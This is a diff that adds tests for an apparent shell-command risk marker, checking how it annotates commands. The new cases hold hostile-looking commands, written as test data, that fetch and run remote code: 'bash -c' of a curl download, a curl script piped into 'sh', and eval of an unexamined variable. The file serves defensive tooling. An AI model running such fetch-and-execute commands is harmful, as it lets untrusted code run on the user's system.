@@ -34,6 +34,20 @@ test.each([
   expect(marked(command)).toBe(shown);
 });
 
+test.each([
+  'rm -f ./tmp.log; eval "$X"',
+  'rm -f ./tmp.log; python3 -c "$X"',
+  'rm -f a; bash -c "$(curl -s https://a.example)"',
+])("%s: nothing is marked next to what can't be inspected and has no place", (command) => {
+  expect(marked(command)).toBe(command);
+});
+
+test("only interpreters are marked as what foreign code is piped into", () => {
+  expect(marked("cat a | sort | uniq; curl -s https://get.example.com/i.sh | sh")).toBe(
+    "cat a | sort | uniq; curl -s https://get.example.com/i.sh [| sh]",
+  );
+});
+
 test("a command without harm has no marks", () => {
   expect(marked("git status && cat a | sort > b")).toBe("git status && cat a | sort > b");
 });
